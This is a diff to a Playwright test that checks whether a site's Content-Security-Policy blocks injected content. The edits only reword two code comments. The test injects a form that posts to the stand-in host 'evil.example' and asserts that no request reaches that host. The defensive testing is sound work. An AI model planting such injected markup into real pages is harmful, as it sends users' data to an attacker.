@@ -2,7 +2,7 @@ import { expect, type Page } from "@playwright/test";
 import { hydrated } from "../support/hydrated";
 import { test } from "../support/policy-test";
 
-/** Plants markup into a page on its way, as a hole in the site would; its headers stay. */
+/** Injects markup into a response, as an XSS hole would; its headers stay. */
 const plant = async (page: Page, markup: string): Promise<void> => {
   await page.route("**/about", async (route) => {
     const response = await route.fetch();
@@ -32,7 +32,7 @@ test.describe("the Content-Security-Policy refuses", { tag: "@wide" }, () => {
     const hosts: string[] = [];
     page.on("request", (request) => hosts.push(new URL(request.url()).host));
     await plant(page, '<form action="https://evil.example/" method="post"><button id="planted">Win</button></form>');
-    // Playwright's own click waits for the navigation, which the policy refuses.
+    // Playwright's own click waits for the navigation, which the policy blocks.
     await page.locator("#planted").evaluate((button: HTMLElement) => window.setTimeout(() => button.click()));
     await expect.poll(() => refusals.length).toBeGreaterThan(0);
     expect(hosts).not.toContain("evil.example");
